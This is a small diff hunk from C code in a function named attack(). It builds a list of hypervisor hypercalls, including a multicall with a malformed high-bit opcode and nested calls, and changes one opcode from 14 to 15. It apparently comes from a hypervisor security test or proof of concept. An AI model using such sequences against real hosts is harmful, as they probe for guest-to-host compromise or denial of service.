@@ -31,7 +31,7 @@ void attack(void)
 		{ .op = KEEL_HC_sched_op, .args = { KEEL_SCHEDOP_yield } },
 		{ .op = KEEL_HC_sched_op,
 		  .args = { KEEL_SCHEDOP_shutdown, (uint64_t)&sd } },
-		{ .op = 14 },
+		{ .op = 15 },
 		{ .op = (1ULL << 32) | KEEL_HC_multicall,
 		  .args = { (uint64_t)inner, 2 } },
 		{ .op = KEEL_HC_domctl },
